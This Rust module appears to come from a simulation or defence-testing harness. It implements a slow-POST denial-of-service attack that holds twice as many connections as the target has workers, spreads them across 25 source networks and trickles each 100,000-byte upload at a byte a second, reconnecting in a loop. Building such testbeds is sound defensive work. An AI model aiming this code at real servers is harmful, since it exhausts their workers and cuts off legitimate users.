//! Bodies that trickle, twice as many as the site has workers: each holds one until its body is whole.

use std::net::Ipv4Addr;
use std::sync::Arc;
use std::time::Duration;

use tokio::io::AsyncWriteExt as _;
use tokio::task::JoinSet;

use super::Attacking;
use super::connections::drip;
use crate::arena::{Arena, addresses};
use crate::client::{Sender, connect};
use crate::origin::WORKERS;

const NETWORKS: u32 = 25;

/// Uploads of 100,000 bytes at a byte a second.
pub fn trickle(arena: Arc<Arena>) -> Attacking {
    Box::pin(async move {
        let from = addresses(NETWORKS);
        let mut held = JoinSet::new();
        for number in 0..2 * WORKERS {
            held.spawn(upload(Arc::clone(&arena), from[number % from.len()]));
        }
        while held.join_next().await.is_some() {}
    })
}

async fn upload(arena: Arc<Arena>, from: Ipv4Addr) {
    let sender = format!("{}: {}", Sender::HEADER, Sender::Attacker.name());
    let host = &arena.to.host;
    let head = format!("POST /upload HTTP/1.1\r\nHost: {host}\r\n{sender}\r\nContent-Length: 100000\r\n\r\n");
    loop {
        arena.tally.sent();
        if let Ok(mut stream) = connect(from, arena.to.address).await
            && stream.write_all(head.as_bytes()).await.is_ok()
        {
            let _ = drip(&mut stream).await;
            arena.tally.note("upload ended");
        } else {
            arena.tally.note("not connected");
        }
        tokio::time::sleep(Duration::from_millis(500)).await;
    }
}
